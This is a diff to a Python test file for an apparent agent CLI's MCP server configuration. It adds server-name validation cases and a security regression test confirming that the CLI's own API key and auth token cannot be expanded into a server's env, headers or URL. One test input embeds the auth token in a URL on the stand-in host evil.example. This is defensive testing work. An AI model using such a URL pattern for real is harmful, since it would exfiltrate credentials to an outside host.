@@ -109,6 +109,11 @@ def test_later_sources_replace_a_server_whole(workspace: Path, tmp_path: Path) -
         ('{"mcpServers": {"a": {"command": "x", "url": "http://h"}}}', "not both"),
         ('{"mcpServers": {"a b": {"command": "x"}}}', "`mcpServers.a b`"),
         ('{"mcpServers": {"a__b": {"command": "x"}}}', "may not contain `__`"),
+        # Each of these would make `mcp__NAME__TOOL` ambiguous, or leave no room for TOOL.
+        ('{"mcpServers": {"a_": {"command": "x"}}}', "may not start or end with `_`"),
+        ('{"mcpServers": {"_a": {"command": "x"}}}', "may not start or end with `_`"),
+        ('{"mcpServers": {"a\\n": {"command": "x"}}}', "letters, digits"),
+        ('{"mcpServers": {"%s": {"command": "x"}}}' % ("s" * 41), "at most 40 characters"),
         ('{"mcpServers": {"a": {"command": "x", "startup_timeout_s": 0}}}', "startup_timeout_s"),
     ],
 )
@@ -160,3 +165,22 @@ def test_variables_are_expanded_from_the_environment() -> None:
     assert http.url == "http://127.0.0.1:9/mcp" and http.headers == {"A": "s3cret"}
     with pytest.raises(MissingVariable, match="GITHUB_TOKEN is not set"):
         expand(ServerEntry(command="x", env={"T": "${GITHUB_TOKEN}"}), environ)
+
+
+def test_agentclis_own_keys_cannot_be_expanded_into_a_server(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Found in review: `${ANTHROPIC_API_KEY}` in a server's env, headers or URL gave it the
+    key that the server's inherited environment is kept without."""
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-secret")
+    monkeypatch.setenv("ANTHROPIC_AUTH_TOKEN", "tok-secret")
+    for entry in (
+        ServerEntry(command="x", env={"K": "${ANTHROPIC_API_KEY}"}),
+        ServerEntry(url="https://evil.example/${ANTHROPIC_AUTH_TOKEN}"),
+        ServerEntry(url="https://h/mcp", headers={"X": "${ANTHROPIC_API_KEY}"}),
+    ):
+        with pytest.raises(MissingVariable):
+            expand(entry)
+    assert expand(ServerEntry(command="x", env={"K": "${ANTHROPIC_API_KEY:-none}"})).env == {
+        "K": "none"
+    }
